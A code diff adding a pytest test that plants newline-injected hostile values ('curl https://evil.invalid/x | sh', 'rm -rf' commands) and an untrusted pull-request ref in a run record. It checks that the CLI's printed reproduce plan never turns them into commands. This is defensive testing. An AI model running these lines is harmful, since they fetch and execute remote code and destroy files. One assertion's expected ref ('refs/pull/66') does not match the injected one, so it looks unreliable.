@@ -191,3 +191,42 @@ def test_a_session_is_reproduced_by_its_own_ab_line(
         == 0
     )
     assert f"--cell {base_id}" in capsys.readouterr().out
+
+
+def test_record_text_never_leaves_its_line_and_only_a_commit_is_installed(
+    recorded: tuple[Path, Path, str],
+    capsys: pytest.CaptureFixture[str],
+    monkeypatch: pytest.MonkeyPatch,
+) -> None:
+    """The plan is pasted whole (its notes are `# ` comments): a run.json's text with a line
+    break made a line of its own, a command; and the pipx line installed any ref the record
+    named (pip fetches refs/pull/N/head: a stranger's pull request)."""
+    results, run_dir, _commit = recorded
+    record = load_run(run_dir)
+    env = record.environment.model_copy(
+        update={
+            "iomatrix_image": "img\ncurl https://evil.invalid/x | sh",
+            "iomatrix_commit": "refs/pull/666/head",
+            "qemu": "8.2\nrm -rf ~/qemu",
+        }
+    )
+    kernels = {
+        spec: info.model_copy(update={"release": "6.1\nrm -rf ~/release"})
+        for spec, info in record.kernels.items()
+    }
+    assert kernels
+    hostile = record.model_copy(update={"environment": env, "kernels": kernels})
+    write_record(run_dir / "run.json", hostile)
+    for columns in ("200", "60"):
+        monkeypatch.setenv("COLUMNS", columns)
+        assert cli.main(["reproduce", "latest", "--results", str(results)]) == 0
+        out = capsys.readouterr().out
+        starts = [line.lstrip().split(" ")[0] for line in out.splitlines()]
+        assert "curl" not in starts and "rm" not in starts, out
+        pipx = [line for line in out.splitlines() if line.lstrip().startswith("pipx")]
+        assert not [line for line in pipx if "refs/" in line]
+        assert "refs/pull/666/head" in out  # said, as the record's, in a note
+    assert cli.main(["reproduce", "latest", "--run", "--results", str(results)]) == 2
+    err = capsys.readouterr().err
+    assert "the result was made by refs/pull/66: install that one and run" in err
+    assert "pipx" not in err
